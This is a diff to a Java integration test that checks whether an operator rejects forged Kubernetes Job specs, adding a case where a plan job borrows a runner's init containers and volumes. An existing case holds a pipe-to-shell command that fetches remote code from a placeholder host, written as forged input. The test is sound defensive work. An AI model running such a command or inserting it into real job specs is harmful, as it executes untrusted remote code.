@@ -80,6 +80,7 @@ class OperatorJobForgeryIT {
     require(createAsOperator(forged(job -> { })));
     require(createAsOperator(forged(JobSamples.runFromImage(), job -> { })));
     require(createAsOperator(forged(JobSamples.plan(), job -> { })));
+    require(createAsOperator(forged(JobSamples.planFromImage(), job -> { })));
   }
 
   @Test
@@ -163,6 +164,12 @@ class OperatorJobForgeryIT {
     forgeries.put("init running a shell", forged(JobSamples.runFromImage(),
         j -> copyScripts(j).setCommand(List.of("sh", "-c", "wget -qO- http://example.invalid/x | sh"))));
     expected.put("init running a shell", "running cp");
+    forgeries.put("a plan opening the image", forged(JobSamples.planFromImage(),
+        j -> {
+          pod(j).setInitContainers(pod(JobSamples.runFromImage()).getInitContainers());
+          pod(j).getVolumes().add(pod(JobSamples.runFromImage()).getVolumes().get(0));
+        }));
+    expected.put("a plan opening the image", "a plan Job (the runner's plan program) has no init container");
 
     forgeries.put("another namespace", forged(j -> j.getMetadata().setNamespace(ELSEWHERE)));
     expected.put("another namespace", "creates Jobs only in " + NS);
